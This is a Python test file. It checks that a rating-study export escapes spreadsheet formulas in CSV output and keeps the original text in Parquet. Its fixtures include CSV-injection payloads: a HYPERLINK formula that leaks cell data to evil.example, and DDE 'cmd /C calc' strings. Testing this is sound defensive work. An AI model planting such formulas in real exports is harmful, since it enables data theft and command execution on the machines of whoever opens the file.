"""Exports cannot carry spreadsheet formulas: a rater's comment ``=HYPERLINK(...)`` is written as text."""

from __future__ import annotations

import csv
import uuid
from pathlib import Path

import pandas as pd

from db.export import export_study, ratings_frame
from db.raters import add_rater, rater_by_token
from db.ratings import next_pair, submit_rating
from db.studies import create_study
from db.workspace import Workspace

from .conftest import STUDY_TOML

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\tleading tab": "'\tleading tab",
    "\r=1+1": "'\r=1+1",
    "fine = good": "fine = good",
}


def test_formula_cells_are_neutralised_in_csv_only(gi_workspace: Workspace, tmp_path: Path) -> None:
    with gi_workspace.database.session() as s:
        create_study(s, gi_workspace.store, STUDY_TOML)
    with gi_workspace.database.session() as s:
        token = add_rater(s, "pilot", "=cmd|'/C calc'!A0", "gastroenterology", 3).token
    answers = {"realism_left": 4, "realism_right": 2, "accuracy_left": 3, "accuracy_right": 3,
               "which_generated": "right", "confidence": 4}  # fmt: skip
    for comment in HOSTILE:
        with gi_workspace.database.session() as s:
            rater = rater_by_token(s, token)
            pair, rater_id = next_pair(s, rater), rater.id
        submit_rating(gi_workspace.database, rater_id, pair.item_public_id, uuid.uuid4().hex,
                      {**answers, "comment": comment})  # fmt: skip
    with gi_workspace.database.session() as s:
        export_study(s, "pilot", tmp_path / "csv", "csv")
        export_study(s, "pilot", tmp_path / "pq", "parquet")
        frame = ratings_frame(s, "pilot")
    # Read the CSV as a spreadsheet would: raw cells, no type inference.
    with (tmp_path / "csv" / "ratings.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["comment"] for r in rows) == sorted(HOSTILE.values())
    assert {r["rater_name"] for r in rows} == {"'=cmd|'/C calc'!A0"}
    for row in rows:  # no cell of any column may start a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    with (tmp_path / "csv" / "raters.csv").open(newline="", encoding="utf-8") as fh:
        assert [r["rater_name"] for r in csv.DictReader(fh)] == ["'=cmd|'/C calc'!A0"]
    # Numbers stay numbers, and the analysis contract (the frame) and Parquet keep the exact text.
    assert pd.read_csv(tmp_path / "csv" / "ratings.csv")["realism_left"].tolist() == [4] * len(HOSTILE)
    assert sorted(frame["comment"]) == sorted(HOSTILE)
    assert sorted(pd.read_parquet(tmp_path / "pq" / "ratings.parquet")["comment"]) == sorted(HOSTILE)
